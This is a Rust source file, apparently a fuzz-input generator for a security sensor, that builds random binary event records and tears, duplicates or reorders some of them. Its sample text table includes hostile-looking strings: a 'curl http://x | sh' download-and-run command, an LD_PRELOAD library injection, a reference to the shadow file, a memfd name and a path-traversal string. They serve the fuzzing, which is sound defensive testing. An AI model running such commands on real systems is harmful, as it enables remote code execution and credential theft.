//! Makes the records.

use std::time::{SystemTime, UNIX_EPOCH};

use cadge_sensor::source::{RECORD_KINDS, RECORD_VERSION};

/// Bytes of a header and of the head of a part, as `event.h` has them.
const HEADER_BYTES: usize = 32;
const RECORD_BYTES_MAX: usize = 16384;

/// Ids are few, so that records meet.
const PIDS: usize = 300;

/// Texts as they stand in parts.
const TEXTS: &[&[u8]] = &[
    b"shadow\0etc\0",
    b"sh\0-c\0curl http://x | sh\0",
    b"LD_PRELOAD=/tmp/x.so\0PATH=/bin\0",
    b"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\0docker\0",
    b"memfd:x\0",
    b"/../../..//./a",
    b"\0\0\0\0",
    b"\xff\xfe\0/",
    b"",
];

pub(crate) struct Records {
    random: u64,
    time_ns: u64,
}

impl Records {
    pub(crate) fn new() -> Self {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
        let seed = std::env::var("CADGE_FUZZ_SEED").ok().and_then(|seed| seed.parse().ok());
        let seed = seed.unwrap_or_else(|| u64::try_from(now % u128::from(u64::MAX)).unwrap() | 1);
        println!("fuzz: CADGE_FUZZ_SEED={seed}");
        Self { random: seed, time_ns: 1 }
    }

    /// A number below `end`.
    fn below(&mut self, end: usize) -> usize {
        // Marsaglia's xorshift.
        self.random ^= self.random << 13;
        self.random ^= self.random >> 7;
        self.random ^= self.random << 17;
        usize::try_from(self.random >> 1).unwrap_or(0) % end.max(1)
    }

    fn small(&mut self, end: usize) -> u32 {
        u32::try_from(self.below(end)).unwrap()
    }

    /// Records, some of them torn, some twice, some in another order.
    pub(crate) fn batch(&mut self) -> Vec<Vec<u8>> {
        let mut records: Vec<Vec<u8>> = (0..200).map(|_| self.record()).collect();
        for _ in 0..self.below(60) {
            let (at, other) = (self.below(records.len()), self.below(records.len()));
            match self.below(4) {
                0 => records.swap(at, other),
                1 => {
                    let again = records[other].clone();
                    records.insert(at, again);
                }
                _ => self.tear(&mut records[at]),
            }
        }
        records
    }

    fn record(&mut self) -> Vec<u8> {
        let (kind, fixed) = RECORD_KINDS[self.below(RECORD_KINDS.len())];
        self.time_ns += u64::from(self.small(200_000_000));
        let pid = self.small(PIDS);
        let tid = if self.below(4) == 0 { self.small(PIDS) } else { pid };
        let mut record = Vec::new();
        record.extend_from_slice(&RECORD_VERSION.to_ne_bytes());
        record.extend_from_slice(&kind.to_ne_bytes());
        record.extend_from_slice(&[0; 4]);
        record.extend_from_slice(&self.time_ns.to_ne_bytes());
        for word in [self.small(4), pid, tid, 0] {
            record.extend_from_slice(&word.to_ne_bytes());
        }
        for _ in 0..fixed / 4 {
            let word = self.word();
            record.extend_from_slice(&word.to_ne_bytes());
        }
        record.resize(HEADER_BYTES + fixed, 0);
        for _ in 0..self.below(7) {
            self.add_part(&mut record);
        }
        let size = u32::try_from(record.len()).unwrap();
        record[4..8].copy_from_slice(&size.to_ne_bytes());
        record
    }

    /// Most are 0 or an id of somebody.
    fn word(&mut self) -> u32 {
        match self.below(8) {
            0..4 => 0,
            4..7 => self.small(PIDS),
            _ => u32::try_from(self.random & 0xffff_ffff).unwrap(),
        }
    }

    fn add_part(&mut self, record: &mut Vec<u8>) {
        let kind = if self.below(3) == 0 { 32 + self.below(6) } else { self.below(20) };
        let arg = if self.below(2) == 0 { 15 } else { self.below(9) };
        let mut text = Vec::new();
        for _ in 0..self.below(4) {
            text.extend_from_slice(TEXTS[self.below(TEXTS.len())]);
        }
        if self.below(20) == 0 {
            let more = self.below(12_000);
            text.resize(text.len() + more, b'a');
        }
        if self.below(4) == 0 {
            // A structure's bytes.
            (0..self.below(40)).for_each(|_| text.extend_from_slice(&self.word().to_ne_bytes()));
        }
        let Some(room) = RECORD_BYTES_MAX.checked_sub(record.len() + 8) else { return };
        text.truncate(room);
        let byte = |number: usize| u8::try_from(number).unwrap();
        record.extend_from_slice(&[byte(kind), byte(self.below(8)), byte(arg), 0]);
        record.extend_from_slice(&u32::try_from(text.len()).unwrap().to_ne_bytes());
        record.extend_from_slice(&text);
    }

    /// Cuts it, or changes bytes of it.
    fn tear(&mut self, record: &mut Vec<u8>) {
        if self.below(3) == 0 {
            record.truncate(self.below(record.len() + 1));
            return;
        }
        for _ in 0..=self.below(8) {
            // Near the beginning are the sizes.
            let end = if self.below(2) == 0 { record.len() } else { record.len().min(64) };
            let at = self.below(end);
            if let Some(byte) = record.get_mut(at) {
                *byte = u8::try_from(self.random & 0xff).unwrap();
            }
        }
    }
}
